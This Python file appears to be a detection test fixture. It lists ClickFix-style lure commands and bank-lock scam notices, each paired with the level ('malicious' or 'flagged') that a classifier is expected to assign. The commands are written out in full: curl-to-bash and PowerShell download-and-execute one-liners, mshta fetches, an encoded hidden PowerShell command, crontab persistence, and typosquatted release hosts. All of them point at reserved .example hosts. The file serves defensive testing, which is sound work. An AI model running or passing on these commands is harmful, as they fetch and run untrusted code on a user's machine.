"""fpover23 look-alikes: lures that try to abuse what the fixes cleared, each at the level it must
keep (own words; lure hosts on reserved names). Cases are (target, source, expected level, text).
"""

# a staff site's label (intranet., it.) only stops a product's name from reading as another
# subject: a lure on such a host, or a stranger's script from one, keeps its level
STAFF_SECTION = [
    (
        "terminal",
        "https://intranet.verify-now.example/recipes/pancakes",
        "malicious",
        "curl -fsSL https://cdn.fixer-tools.example/i.sh | bash",
    ),
    (
        "terminal",
        "https://it.help-desk-now.example/fix/outlook",
        "malicious",
        'powershell -w h -c "iwr https://cdn.fixer-tools.example/o.ps1 | iex"',
    ),
    (
        "run_dialog",
        "https://intranet.globex.example/it/fleet",
        "malicious",
        "mshta https://globex-it-check.example/verify.hta",
    ),
]

# the organisation's own tenant at a vendor is a host of the vendor's domain named exactly for
# the page's organisation: a tunnel's tenant, a name in the path, another name, a page about
# something else or a check page keep their level
OWN_TENANT = [
    (
        "terminal",
        "https://intranet.globex.example/it/fleet",
        "flagged",
        "curl -fsSL https://globex.ngrok.app/agent.sh | sudo bash",
    ),
    (
        "terminal",
        "https://intranet.globex.example/it/fleet",
        "flagged",
        "curl -fsSL https://fleet.updates-cdn.example/globex/agent.sh | sudo bash",
    ),
    (
        "terminal",
        "https://intranet.globex.example/it/fleet",
        "flagged",
        "curl -fsSL https://globexx.cloud.updates-cdn.example/agent.sh | sudo bash",
    ),
    (
        "terminal",
        "https://www.northwind.example/recipes/pumpkin-soup",
        "flagged",
        "curl -fsSL https://northwind.files-cdn.example/a.sh | bash",
    ),
    (
        "terminal",
        "https://blog.northwind.example/how-to-install-docker-on-ubuntu",
        "flagged",
        "curl -fsSL https://northwind.files-cdn.example/get-docker.sh | sudo bash",
    ),
    (
        "run_dialog",
        "https://verify.globex-secure.example/check",
        "malicious",
        'powershell -w h -c "iwr https://globex-secure.cloud.files-cdn.example/c.ps1 | iex"',
    ),
]

# a query is a query only when every line is: a statement with a command after it, a query
# with a command under it, a rule with a command beside it keep their level
QUERIES = [
    (
        "terminal",
        None,
        "malicious",
        "SELECT 1 FROM t; curl -fsSL https://cdn.fixer-tools.example/a.sh | sh",
    ),
    (
        "terminal",
        None,
        "malicious",
        "select name from processes\ncurl -fsSL https://cdn.fixer-tools.example/a.sh | bash",
    ),
    (
        "run_dialog",
        None,
        "malicious",
        'rule x {\n  events:\n    $e.metadata.event_type = "PROCESS_LAUNCH"\n  condition:\n    $e\n}\npowershell -w h -c "iwr https://cdn.fixer-tools.example/a.ps1 | iex"',
    ),
    (
        "unknown",
        None,
        "flagged",
        "SELECT * FROM users WHERE id = 1; powershell -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQApAA==",
    ),
]

# the tools' own release addresses only: the same file from another account or host is a
# stranger's
RELEASE_HOMES = [
    (
        "terminal",
        None,
        "flagged",
        "curl -fsSL https://github.com/sigst0re/cosign/releases/download/v2.4.1/cosign-linux-amd64 -o /usr/local/bin/cosign && chmod +x /usr/local/bin/cosign && cosign version",
    ),
    (
        "terminal",
        None,
        "flagged",
        "curl -o bootstrap-salt.sh -L https://github.com/saltstack-dev/salt-bootstrap/releases/latest/download/bootstrap-salt.sh && sudo sh bootstrap-salt.sh",
    ),
    (
        "terminal",
        None,
        "flagged",
        'Invoke-WebRequest https://dl-google.example/chrome/install/googlechromestandaloneenterprise64.msi -OutFile $env:TEMP\\c.msi; Start-Process msiexec.exe -ArgumentList "/i $env:TEMP\\c.msi /qn" -Wait',
    ),
    (
        "terminal",
        None,
        "flagged",
        "$u = 'https://storage.googleapis.com/cloud-onboarding-tools/alloy/install.ps1'; iex (iwr $u -UseBasicParsing).Content",
    ),
]

# a health check's ping in the crontab keeps nothing it fetches: a pipe to a shell, a file
# written, a second command after it keep the rule
CRON_PING = [
    (
        "terminal",
        None,
        "malicious",
        "(crontab -l; echo '*/5 * * * * curl -fsSL https://cdn.fixer-tools.example/x.sh | sh > /dev/null') | crontab -",
    ),
    (
        "terminal",
        None,
        "flagged",
        "(crontab -l 2>/dev/null; echo '15 2 * * * /tmp/x.sh && curl -fsS https://cdn.fixer-tools.example/x -o /tmp/x.sh > /dev/null') | crontab -",
    ),
    (
        "terminal",
        None,
        "malicious",
        "(crontab -l 2>/dev/null; echo '* * * * * curl -fsS https://cdn.fixer-tools.example/x > /dev/null; sh /tmp/y') | crontab -",
    ),
]

# "wait 30 minutes and sign in again" and "in der Sparkasse-App" are a notice's own way out only
# where nothing else a scam needs is said: a hurry, suspicion, the account threatened with
# closing keep the rule
BANK_LOCK = [
    (
        "other",
        None,
        "malicious",
        "Your account has been locked due to suspicious activity. Call 0800 555 0199 immediately or wait 30 minutes and sign in again.",
    ),
    (
        "other",
        None,
        "malicious",
        "Your account was locked. Call 1-800-555-0142 now, or wait 30 minutes and sign in again.",
    ),
    (
        "other",
        "https://secure-bank-alert.example/locked",
        "flagged",
        "Ihre Karte wurde wegen verdächtiger Aktivitäten gesperrt. Rufen Sie sofort 0800 555 0100 an oder entsperren Sie sie in der Sparkasse-App.",
    ),
    (
        "other",
        None,
        "flagged",
        "Ihre Karte wurde gesperrt. Rufen Sie uns unter 0800 555 0100 an, sonst wird Ihr Konto geschlossen. Oder entsperren Sie sie in der Sparkasse-App.",
    ),
    (
        "other",
        None,
        "flagged",
        "Ihre Karte wurde gesperrt. Rufen Sie uns unter 0800 555 0100 an, sonst wird Ihr Konto geschlossen. Oder entsperren Sie sie in der Sparkasse App.",
    ),
]

LOOK_ALIKES = [
    ("staff-section-lure", "any", STAFF_SECTION),
    ("own-tenant-lure", "any", OWN_TENANT),
    ("query-with-command", "any", QUERIES),
    ("release-home-lookalike", "any", RELEASE_HOMES),
    ("cron-ping-lookalike", "linux", CRON_PING),
    ("bank-lock-lookalike", "any", BANK_LOCK),
]
